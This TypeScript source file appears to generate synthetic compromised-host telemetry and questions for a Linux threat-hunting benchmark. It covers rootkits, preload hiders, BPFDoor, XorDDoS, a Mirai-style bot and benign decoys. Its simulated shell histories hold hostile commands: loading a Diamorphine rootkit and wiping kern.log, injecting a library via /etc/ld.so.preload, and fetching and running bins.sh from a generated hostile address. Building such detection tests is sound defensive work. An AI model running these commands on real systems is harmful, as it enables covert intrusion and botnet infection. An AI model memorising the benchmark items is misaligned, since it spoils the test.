// Hiding: LKM rootkits, ld.so.preload process hiders, LD_PRELOAD, BPFDoor, kernel-thread masquerading, hidden dirs,
// XorDDoS's spoofed command lines (and the look-alikes: Debian's alternatives, BusyBox applets), a telnet-scanning bot
// (and a monitoring server's many connections).
import { run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp } from "./fleet.js";
import { serviceUser } from "./attacks-miners.js";

const lkm: Family = {
  name: "lkm-rootkit", kind: "attack", attack: ["T1014", "T1547.006"], count: 4,
  sources: ["Atomic Red Team T1014: Loadable Kernel Module based Rootkit (Diamorphine)", "github.com/m0nad/Diamorphine README", "Sandfly Security: Reptile Rootkit analysis", "Sigma lnx_auditd_load_module_insmod"],
  q: {
    direct: ["any rootkits on {host}?", "are there unexpected kernel modules loaded in {env}?", "check the {role} for Diamorphine or Reptile", "any LKM rootkit signs on {host}?"],
    paraphrase: ["could something be hiding inside the operating system core on {host}?", "is the kernel on {host} tampered with?", "is anything on the {role} hiding processes from us?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "bastion"] as const));
    const h = b.h;
    const kind = rng.pick(["diamorphine", "reptile", "renamed"] as const);
    if (kind === "diamorphine") {
      const dir = rng.pick(["/root/Diamorphine", "/tmp/Diamorphine", "/var/tmp/.d", "/dev/shm/.m"]);
      h.file(`${dir}/diamorphine.ko`, { mode: "0644", size: 421_000 + rng.int(0, 20_000), mtime: h.recent(3_600, 86_400 * 5) });
      h.history(0, "/root", [`cd ${dir.replace(/\/Diamorphine$/, "")}`, ...(dir.endsWith("Diamorphine") ? ["git clone https://github.com/m0nad/Diamorphine"] : []), `cd ${dir}`, "make", "insmod diamorphine.ko", "kill -63 0", "rm -f /var/log/kern.log"].slice(0, rng.int(4, 7)), h.recent(3_600, 86_400 * 5));
      if (rng.chance(0.6)) h.add("kernel_modules", { name: "diamorphine", size: 16384, used_by: "-", status: "Live", address: `0xffffffffc0${rng.hex(6)}` });
      h.plant(`${dir}/diamorphine.ko`, "diamorphine");
    } else if (kind === "reptile") {
      h.file("/lib/udev/reptile", { mode: "0755", size: 60_000, mtime: h.recent(3_600, 86_400 * 9) });
      h.file("/reptile/reptile_cmd", { mode: "0755", size: 21_000 });
      h.file("/reptile/reptile_shell", { mode: "0755", size: 48_000 });
      h.file("/reptile/reptile_start", { mode: "0755", size: 180 });
      if (rng.chance(0.5)) h.add("kernel_modules", { name: "reptile", size: 45056, used_by: "-", status: "Live", address: `0xffffffffc0${rng.hex(6)}` });
      const shell = run(h, { name: "reptile_shell", path: "/reptile/reptile_shell", cmdline: `/reptile/reptile_shell -t ${hostileIp(rng)} -p 443 -s hax0r`, uid: 0 });
      void shell;
      h.plant("/lib/udev/reptile", "/reptile/reptile_shell", "reptile");
    } else {
      const name = rng.pick(["vmw_vsock_vmci", "nfnetlink_log2", "ipv6_helper", "crc32_intel", "hid_generic2"]);
      const ko = `/var/tmp/.${randName(rng, 4)}/${name}.ko`;
      h.file(ko, { mode: "0644", size: rng.int(200_000, 600_000), mtime: h.recent(3_600, 86_400 * 5) });
      h.add("kernel_modules", { name, size: rng.int(16, 40) * 1024, used_by: "-", status: "Live", address: `0xffffffffc0${rng.hex(6)}` });
      h.history(0, "/root", [`insmod ${ko}`, "dmesg -C"], h.recent(3_600, 86_400 * 5));
      h.plant(ko, name);
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const preloadHider: Family = {
  name: "ld-so-preload", kind: "attack", attack: ["T1574.006", "T1014", "T1564"], count: 4,
  sources: ["Atomic Red Team T1574.006: Shared Library Injection via /etc/ld.so.preload", "Atomic Red Team T1014: dynamic-linker based rootkit (libprocesshider)", "github.com/gianlucaborello/libprocesshider", "Sigma lnx_auditd_ld_so_preload_mod"],
  q: {
    direct: ["is /etc/ld.so.preload being abused on {host}?", "any userland rootkit like libprocesshider in {env}?", "check the {role} for preloaded shared libraries", "any library injection via ld.so.preload?"],
    paraphrase: ["is every program on {host} being made to load something extra?", "could processes be hidden from ps on {host}?", "is something tampering with how programs start on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "cache", "k8s"] as const));
    const h = b.h;
    const lib = rng.pick(["/usr/local/lib/libprocesshider.so", "/etc/libsystem.so", `${h.spec.distro.libdir}/libdbus-helper.so.2`, "/lib/libext4fs.so", `/usr/lib/.${randName(rng, 4)}/libc.so.7`]);
    h.file("/etc/ld.so.preload", { mode: "0644", size: lib.length + 1, mtime: h.recent(3_600, 86_400 * 5) });
    h.file(lib, { mode: "0755", size: rng.int(15_000, 90_000), mtime: h.recent(3_600, 86_400 * 5) });
    h.hash(lib, rng.hex(64));
    const procs = h.rows("processes").filter((p) => p.path !== "" && p.pid !== "1");
    for (const p of rng.sample(procs, rng.int(3, 6))) {
      h.add("process_memory_map", { pid: p.pid ?? "", start: `7f${rng.hex(10)}`, end: `7f${rng.hex(10)}`, permissions: "r-xp", offset: 4096, device: "103:01", inode: rng.int(10_000, 900_000), path: lib, pseudo: 0 });
    }
    if (rng.chance(0.5)) h.history(0, "/root", ["gcc -Wall -fPIC -shared -o libprocesshider.so processhider.c -ldl", `mv libprocesshider.so ${lib}`, `echo ${lib} >> /etc/ld.so.preload`], h.recent(3_600, 86_400 * 5));
    h.plant(lib);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [lib] });
  },
};

const preloadEnv: Family = {
  name: "ld-preload-env", kind: "attack", attack: ["T1574.006", "T1056"], count: 4,
  sources: ["Atomic Red Team T1574.006: Shared Library Injection via LD_PRELOAD", "MITRE ATT&CK T1574.006 Dynamic Linker Hijacking", "Elastic Security Labs: Linux Detection Engineering with Auditd / LD_PRELOAD"],
  q: {
    direct: ["any processes running with a suspicious LD_PRELOAD on {host}?", "check process environments in {env} for LD_PRELOAD injection", "is there library injection on the {role}?"],
    paraphrase: ["is a program on {host} being made to load code from a temp folder?", "could something be intercepting what sshd or a shell does on {host}?", "is any running program on the {role} carrying something extra inside it?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "bastion", "app", "db"] as const));
    const h = b.h;
    const lib = rng.pick([`/tmp/.${randName(rng, 3)}/libpam_x.so`, "/dev/shm/libkeylog.so", `/var/tmp/lib${randName(rng, 5)}.so`, "/tmp/libcurl-gnutls.so.4"]);
    h.file(lib, { mode: "0755", size: rng.int(12_000, 60_000), mtime: h.recent(3_600, 86_400 * 3) });
    const target = rng.pick([b.sshd, ...Object.values(b.svc)]);
    h.add("process_envs", { pid: target, key: "LD_PRELOAD", value: lib });
    h.add("process_envs", { pid: target, key: "PATH", value: "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin" });
    h.add("process_memory_map", { pid: target, start: `7f${rng.hex(10)}`, end: `7f${rng.hex(10)}`, permissions: "r-xp", offset: 4096, device: "00:1a", inode: rng.int(100, 9000), path: lib, pseudo: 0 });
    h.plant(lib);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [lib] });
  },
};

const BPF_DISGUISES: Array<[string, string]> = [
  ["udevd", "/sbin/udevd -d"], ["mingetty", "/sbin/mingetty /dev/tty7"], ["console-kit-dae", "/usr/sbin/console-kit-daemon --no-daemon"],
  ["hald-addon-acpi", "hald-addon-acpi: listening on acpi kernel interface /proc/acpi/event"], ["dbus-daemon", "dbus-daemon --system"], ["hald-runner", "hald-runner"],
  ["pickup", "pickup -l -t fifo -u"], ["avahi-daemon", "avahi-daemon: chroot helper"], ["auditd", "/sbin/auditd -n"], ["systemd-journal", "/usr/lib/systemd/systemd-journald"],
];

const bpfdoor: Family = {
  name: "bpfdoor", kind: "attack", attack: ["T1205.002", "T1036.005", "T1070.004", "T1095"], count: 4,
  sources: ["Sandfly Security: BPFDoor - An Evasive Linux Backdoor Technical Analysis (2022)", "Elastic Security Labs: A peek behind the BPFDoor (2022)", "Trend Micro: BPFDoor's Hidden Controller (2025)", "Sigma lnx_auditd_bpfdoor_file_accessed"],
  q: {
    direct: ["any BPFDoor on {host}?", "are there processes with raw packet sockets pretending to be system daemons?", "check the {role} for passive backdoors using BPF filters", "any process running from a deleted binary in /dev/shm?"],
    paraphrase: ["is something on {host} silently listening to all traffic waiting for a magic packet?", "is a program on {host} pretending to be a system service?", "is there a hidden backdoor that doesn't open any port on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["db", "app", "web", "bastion", "broker"] as const));
    const h = b.h;
    const [name, cmdline] = rng.pick(BPF_DISGUISES);
    const bin = rng.pick(["/dev/shm/kdmtmpflush", "/dev/shm/kdumpflush", "/dev/shm/kdumpdb", "/dev/shm/.x"]);
    const pid = run(h, { name, path: bin, cmdline, on_disk: 0, uid: 0, parent: 1, cwd: "/", ageMin: 86_400, ageMax: 86_400 * 20 });
    h.packetSocket(pid, rng.pick([2048, 2048, 3]));
    h.add("process_memory_map", { pid, start: `00${rng.hex(6)}`, end: `00${rng.hex(6)}`, permissions: "r-xp", offset: 0, device: "00:1a", inode: rng.int(100, 9000), path: `${bin} (deleted)`, pseudo: 0 });
    const lock = rng.pick(["/var/run/haldrund.pid", "/var/run/xinetd.lock", "/var/run/kdevrund.pid", "/var/run/syslogd.reboot"]);
    h.file(lock, { mode: "0644", size: 0, mtime: h.recent(86_400, 86_400 * 20) });
    h.add("process_envs", { pid, key: "HOME", value: "/tmp" });
    h.add("process_envs", { pid, key: "HISTFILE", value: "/dev/null" });
    h.plant(bin, lock);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [bin, lock] });
  },
};

const KTHREAD_FAKES = ["kworker/0:2", "kworker/1:1-events", "ksoftirqd/0", "kthreaddk", "watchdog/0", "migration/1", "kswapd0", "kdevtmpfs", "kblockd", "ext4-rsv-conver"];

const kthreadMasq: Family = {
  name: "kthread-masquerade", kind: "attack", attack: ["T1036.004", "T1036.005"], count: 4,
  sources: ["Atomic Red Team T1036.004: linux rename /proc/pid/comm using prctl", "Sandfly Security: Detecting Linux kernel process masquerading with command line forensics", "MITRE ATT&CK T1036.004"],
  q: {
    direct: ["any processes masquerading as kernel threads on {host}?", "check the {role} for fake kworker processes", "are there userland processes with bracketed names in {env}?"],
    paraphrase: ["is a normal program on {host} dressed up to look like part of the kernel?", "is something on {host} trying to blend in with the system processes?", "any imposters in the process list on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "cache", "k8s", "monitoring"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const fake = rng.pick(KTHREAD_FAKES);
    const bin = rng.pick([`/tmp/.${randName(rng, 3)}/${randName(rng, 6)}`, `/var/tmp/.X11/${fake.split("/")[0]}`, `/dev/shm/${randName(rng, 4)}`, `/usr/bin/.${randName(rng, 5)}`]);
    const comm = rng.chance(0.5) ? fake.slice(0, 15) : bin.slice(bin.lastIndexOf("/") + 1).slice(0, 15);
    const pid = run(h, { name: comm, path: bin, cmdline: `[${fake}]`, uid: su.uid, parent: 1, cwd: "/", ageMin: 3_600, ageMax: 86_400 * 6 });
    h.conn(pid, hostileIp(rng), rng.pick([443, 80, 8443, 53, 6667]));
    h.file(bin, { uid: su.uid, gid: su.uid, mode: "0755", size: rng.int(600_000, 3_000_000), mtime: h.recent(3_600, 86_400 * 6) });
    h.plant(bin, `[${fake}]`);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [bin] });
  },
};

const xorddos: Family = {
  name: "xorddos", kind: "attack", attack: ["T1036.005", "T1053.003", "T1037.004"], count: 4,
  sources: ["Microsoft Security blog: Rise in XorDdos (2022-05-19): spoofed command lines, /lib/libudev.so.6, /etc/cron.hourly/gcc.sh", "Unit 42: New Linux XorDDoS Trojan Campaign (2023)", "Elastic Security Labs: XorDDoS detection rules"],
  q: {
    direct: ["is XorDDoS on {host}?", "any DDoS bot on the {role}?", "check {env} for processes hiding behind fake command lines"],
    paraphrase: ["did someone brute-force their way in and leave a botnet agent on {host}?", "is a process on {host} pretending to be an ordinary command?", "anything in the process list on the {role} that isn't what it claims?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "bastion", "app", "db"] as const));
    const h = b.h;
    const name = randName(rng, 10);
    const bin = rng.pick([`/usr/bin/${name}`, `/boot/${name}`, `/usr/sbin/${name}`]);
    const c2 = hostileIp(rng);
    const main = run(h, { name: name.slice(0, 15), path: bin, cmdline: rng.pick(["ifconfig eth0", "netstat -antop", "who", "ps -ef", "uptime", "ls -la"]), parent: 1, ageMin: 600, ageMax: 86_400 });
    h.conn(main, c2, rng.pick([3502, 8080, 1520, 25000]));
    if (rng.chance(0.6)) run(h, { name: "libudev.so.6", path: "/lib/libudev.so.6", cmdline: rng.pick(["who", "id", "top", "pwd"]), parent: 1, ageMin: 600, ageMax: 86_400 });
    h.file(bin, { mode: "0755", size: rng.int(600_000, 700_000), mtime: h.recent(600, 86_400) });
    h.add("crontab", { event: "", minute: "*/3", hour: "*", day_of_month: "*", month: "*", day_of_week: "*", command: "root /etc/cron.hourly/gcc.sh", path: "/etc/crontab" });
    h.plant(bin, c2);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [c2] });
  },
};

const utilityNames: Family = {
  name: "utility-names", kind: "benign", attack: [], count: 4,
  sources: ["Debian alternatives: w -> /usr/bin/w.procps", "BusyBox applets (Alpine: ps, top, sleep run /bin/busybox)", "watch(1): repeated ps and ss"],
  q: {
    direct: ["check {env} for processes hiding behind fake command lines", "any processes masquerading as system commands on {host}?"],
    paraphrase: ["is a process on {host} pretending to be an ordinary command?", "anything in the process list on the {role} that isn't what it claims?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "monitoring"] as const));
    const h = b.h;
    run(h, { name: "w", path: "/usr/bin/w.procps", cmdline: "w", ageMin: 1, ageMax: 5 });
    run(h, { name: "sleep", path: "/usr/bin/sleep", cmdline: `sleep ${rng.int(5, 300)}`, ageMin: 1, ageMax: 60 });
    run(h, { name: "top", path: "/usr/bin/top", cmdline: "top -b -n 1", ageMin: 1, ageMax: 5 });
    if (rng.chance(0.5)) run(h, { name: "ps", path: "/bin/busybox", cmdline: "ps", ageMin: 1, ageMax: 5 });
    return withDecoys(ctx, { hosts: [{ b, compromised: false }] });
  },
};

const telnetBot: Family = {
  name: "telnet-bot", kind: "attack", attack: ["T1046", "T1110.001", "T1105"], count: 4,
  sources: ["Antonakakis et al., Understanding the Mirai Botnet (USENIX Security 2017): SYN scans of 23/2323", "Unit 42 and Netlab 360 Gafgyt/Mozi reports: bins.sh loaders, dropped binaries in /tmp", "MITRE ATT&CK T1046"],
  q: {
    direct: ["is there a Mirai or Gafgyt bot on {host}?", "is any host in {env} port scanning the internet?", "check the {role} for a telnet-scanning botnet client"],
    paraphrase: ["is one of our machines trying to break into other people's devices?", "is {host} probing lots of other hosts?", "did something get dropped in /tmp that now talks to hundreds of addresses?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "cache", "monitoring"] as const));
    const h = b.h;
    const dir = rng.pick(["/tmp", "/var/tmp", "/dev/shm", "/tmp/.x"]);
    const bin = `${dir}/${rng.pick(["dvrhelper", "mozi.m", "sora.x86", randName(rng, 7)])}`;
    const pid = run(h, { name: bin.slice(bin.lastIndexOf("/") + 1).slice(0, 15), path: bin, cmdline: rng.chance(0.5) ? bin : "/bin/busybox ECCHI", parent: 1, ageMin: 300, ageMax: 86_400 });
    const c2 = hostileIp(rng);
    h.conn(pid, c2, rng.pick([23, 666, 1312, 6667]));
    const port = rng.pick([23, 23, 2323, 22]);
    for (let i = 0; i < rng.int(10, 30); i++) h.conn(pid, hostileIp(rng), port === 23 && rng.chance(0.2) ? 2323 : port, { state: "SYN_SENT" });
    h.history(0, "/root", [`cd /tmp || cd /var/run || cd /mnt; wget http://${c2}/bins.sh; chmod 777 bins.sh; sh bins.sh`], h.recent(600, 86_400));
    h.plant(bin, c2);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [c2] });
  },
};

const manyConnections: Family = {
  name: "many-connections", kind: "benign", attack: [], count: 4,
  sources: ["Prometheus docs: scrape configuration (one connection per target)", "Blackbox exporter docs: TCP and ICMP probes", "HAProxy docs: health checks to every backend"],
  q: {
    direct: ["is any host in {env} port scanning the internet?", "is there a Mirai or Gafgyt bot on {host}?"],
    paraphrase: ["is {host} probing lots of other hosts?", "why does the {role} have so many outgoing connections?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["monitoring", "web", "app"] as const));
    const h = b.h;
    const prom = run(h, { name: "prometheus", path: "/usr/bin/prometheus", cmdline: "/usr/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/var/lib/prometheus", uid: 112, ageMin: 3_600, ageMax: 86_400 * 30 });
    for (let i = 0; i < rng.int(20, 60); i++) h.conn(prom, `10.${rng.int(0, 3)}.${rng.int(0, 255)}.${rng.int(2, 250)}`, rng.pick([9100, 9187, 9121, 8080]));
    // A probe of a few slow endpoints in flight: half-open for a moment, to a handful of addresses.
    const probe = run(h, { name: "blackbox_export", path: "/usr/bin/prometheus-blackbox-exporter", cmdline: "/usr/bin/prometheus-blackbox-exporter --config.file=/etc/prometheus/blackbox.yml", uid: 112, ageMin: 3_600, ageMax: 86_400 * 30 });
    for (let i = 0; i < rng.int(2, 5); i++) h.conn(probe, `${rng.pick(["93.184.216", "151.101.1", "104.16.132"])}.${rng.int(1, 250)}`, 443, { state: "SYN_SENT" });
    return withDecoys(ctx, { hosts: [{ b, compromised: false }] });
  },
};

const hiddenDir: Family = {
  name: "hidden-dir", kind: "attack", attack: ["T1564.001", "T1074.001"], count: 4,
  sources: ["Atomic Red Team T1564.001: Create a hidden file in a hidden directory", "Sigma lnx_auditd_hidden_files_directories", "Sandfly Security: Linux hidden directory forensics"],
  q: {
    direct: ["any hidden directories in system paths on {host}?", "check /usr/lib, /var/tmp and /dev/shm for dot-directories on the {role}", "are there hidden malware folders in {env}?"],
    paraphrase: ["is someone stashing files where we wouldn't normally look on {host}?", "are there tucked-away folders with programs in them on {host}?", "did an intruder hide a toolkit somewhere on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "ci-runner"] as const));
    const h = b.h;
    const dir = rng.pick([`/usr/lib/.${randName(rng, 3)}`, "/var/tmp/.ICE-unix/...", "/dev/shm/.../", `/usr/share/fonts/.${randName(rng, 4)}`, "/tmp/.X25-unix/.rsync", `/etc/.${randName(rng, 5)}`, "/var/lib/. /"]).replace(/\/$/, "");
    h.file(dir, { type: "directory", mode: "0755", mtime: h.recent(3_600, 86_400 * 7) });
    const tools = rng.sample(["scan", "pnscan", "masscan", "x", "go", "run", "bot", "tsh", "ss", "update"], rng.int(2, 4));
    for (const t of tools) h.file(`${dir}/${t}`, { mode: "0755", size: rng.int(30_000, 3_000_000), mtime: h.recent(3_600, 86_400 * 7) });
    if (rng.chance(0.6)) {
      const t = tools[0] ?? "x";
      const pid = run(h, { name: t, path: `${dir}/${t}`, cmdline: `./${t}`, cwd: dir, uid: 0 });
      h.conn(pid, hostileIp(rng), rng.pick([443, 80, 22]));
    }
    h.plant(dir);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [dir] });
  },
};

export const STEALTH_FAMILIES: Family[] = [lkm, preloadHider, preloadEnv, bpfdoor, kthreadMasq, hiddenDir, xorddos, utilityNames, telnetBot, manyConnections];
